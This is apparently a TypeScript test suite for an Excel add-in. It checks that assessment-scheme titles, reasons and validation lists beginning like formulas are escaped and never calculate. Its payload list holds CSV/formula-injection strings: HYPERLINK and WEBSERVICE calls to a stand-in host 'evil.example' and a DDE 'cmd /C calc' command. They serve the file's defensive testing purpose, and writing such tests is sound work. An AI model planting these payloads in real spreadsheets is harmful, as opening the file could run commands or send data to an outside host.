// Formula injection: whatever a scheme's titles or an assessor's reasons begin with, nothing of them ever calculates in a workbook.
import { written } from '../../../addin/workbook/cell-text';
import { consolidate } from '../../../shared/scoring/consolidate';
import { parseCyclePeriod } from '../../../shared/scheme/period';
import { preset, presetIds } from '../../../shared/scheme/presets';
import type { Scheme } from '../../../shared/scheme/scheme';
import { languages } from '../../../shared/scheme/text';
import { tabNames } from '../../../shared/sheets/labels';
import type { SheetPlan } from '../../../shared/sheets/plan';
import { planResultsWorkbook } from '../../../shared/sheets/results-workbook';
import { planSchemeWorkbook } from '../../../shared/sheets/scheme-workbook/plan-scheme-workbook';
import { planScoreWorkbook } from '../../../shared/sheets/score-workbook';
import { accepted, schemeFrom } from '../../shared/accepted';
import { fullSheets } from '../../shared/scheme/full-sheets';

const marker = 'evil.example';
const payloads = [
  `=HYPERLINK("http://${marker}","点击")`,
  `+cmd|' /C calc'!${marker}`,
  `-1+1+${marker}`,
  `@SUM(1+1)*${marker}`,
  `\t=1+1 ${marker}`,
  `\r=1+1 ${marker}`,
  `\n=1+1 ${marker}`,
  `"&WEBSERVICE("http://${marker}")&"`,
  `'=1+1 ${marker}`,
  `＝1+1 ${marker}`,
];

/** The scheme with every title and name replaced by something that would like to calculate. */
function hostile(scheme: Scheme, payload: string): Scheme {
  const turn = (value: unknown, key = ''): unknown => {
    // What a column of a register must hold is no title.
    if (['if', 'set'].includes(key)) return value;
    if (Array.isArray(value)) return value.map((one) => turn(one, key));
    if (typeof value === 'object' && value !== null) {
      return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, turn(one, name)]));
    }
    const free = ['title', 'zh-CN', 'en-US', 'section', 'kind', 'award', 'text', 'duties', 'covers'].includes(key);
    return typeof value === 'string' && free && !['remark', 'talk', 'admonition', 'rectification'].includes(value)
      ? payload
      : value;
  };
  return schemeFrom(turn(scheme));
}

function expectHarmless(plans: readonly SheetPlan[]): void {
  for (const { name, blocks, validations = [], tables = [], charts = [] } of plans) {
    expect(name).not.toMatch(/[[\]:*?/\\'\p{Cc}]/u);
    const cells = blocks.flatMap((block) => block.cells.flat());
    const texts = cells.filter((cell) => typeof cell === 'string' && cell !== '');
    expect(texts.filter((text) => written(text) !== `'${String(text)}`)).toEqual([]);
    // A tab's name stands in formulas within quotes, where it is a name and nothing else.
    const formulas = cells.flatMap((cell) => (typeof cell === 'object' && cell !== null ? [cell.formula] : []));
    expect(formulas.filter((formula) => formula.replace(/'[^']*'!/g, '').includes(marker))).toEqual([]);
    const said = validations.filter(({ title, message }) => `${title} ${message}`.includes(marker));
    const lists = validations.filter(
      ({ rule }) => rule.kind === 'list' && rule.source.includes(marker) && /^[=+@'\s-]/.test(rule.source),
    );
    expect([said, lists]).toEqual([[], []]);
    expect(JSON.stringify([tables, charts])).not.toContain(marker);
  }
}

describe.each(presetIds)('%s', (id) => {
  test.each(payloads)('with titles like %j', (payload) => {
    const scheme = hostile(preset(id), payload);
    for (const language of languages) {
      expectHarmless(planSchemeWorkbook({ scheme, language }));
      expectHarmless(planScoreWorkbook({ scheme, period: '2026-10', language }));
    }
  });
});

test('with reasons and results like that', () => {
  const [payload = ''] = payloads;
  const scheme = hostile(preset('luan'), payload);
  const sheets = fullSheets(scheme).map((sheet) => ({
    ...sheet,
    lines: sheet.lines.map((line) => ({ ...line, reason: payload })),
  }));
  const results = consolidate(scheme, accepted(parseCyclePeriod(scheme, '2026-10')), sheets);
  expectHarmless(planResultsWorkbook({ scheme, results, language: 'zh-CN' }));
});

test.each(payloads)(
  'with records that say %j: the lines that they count, the rows that they ask for, the gates they shut',
  (payload) => {
    const scheme = hostile(preset('luan'), payload);
    const [unit = '', other = ''] = scheme.units.map(({ id }) => id);
    const [register = ''] = (scheme.registers ?? []).map(({ id }) => id);
    const component = scheme.components.find(({ method }) => method === 'deduct')?.id ?? '';
    const line = { unit, component, reason: payload, record: 'F-2026-10-001' };
    const counted = {
      postings: [{ ...line, points: 0.5 }],
      gates: [{ unit: other, component, register, or: 'zero' as const }],
      rows: [line],
    };
    for (const language of languages) {
      const plans = planScoreWorkbook({ scheme, period: '2026-10', language, counted });
      const texts = plans.flatMap(({ blocks }) => blocks.flatMap(({ cells }) => cells.flat()));
      expect(texts.filter((text) => text === payload).length).toBeGreaterThan(1);
      expectHarmless(plans);
    }
  },
);

test('a list of indicators that begins like a formula is not given to Excel as a list', () => {
  const one = schemeFrom({
    format: 1,
    id: 'one',
    version: 1,
    title: '一',
    cycle: 'month',
    categories: [{ id: 'a', title: '甲' }],
    groups: [{ id: 'g', title: '组' }],
    units: [{ id: 'u', title: '单位', category: 'a' }],
    components: [
      {
        id: 'c',
        title: '构成',
        group: 'g',
        method: 'deduct',
        marks: 10,
        indicators: [{ id: 'i', title: payloads[0], marks: 10 }],
      },
    ],
  });
  const lists = (scheme: Scheme) =>
    planScoreWorkbook({ scheme, period: '2026-10', language: 'zh-CN' })
      .flatMap(({ validations = [] }) => validations)
      .flatMap(({ rule }) => (rule.kind === 'list' && !rule.source.startsWith("='") ? [rule.source] : []));
  expect(lists(one)).toEqual([]);
  const [component] = one.components;
  const plain = { ...one, components: [{ ...component, indicators: [{ id: 'i', title: '指标', marks: 10 }] }] };
  expect(lists(schemeFrom(plain))).toEqual(['指标']);
});

test('a long tab name tears no character apart', () => {
  const [tab = ''] = tabNames([`${'绩'.repeat(30)}😀效`]);
  expect(tab).toBe('绩'.repeat(30));
});
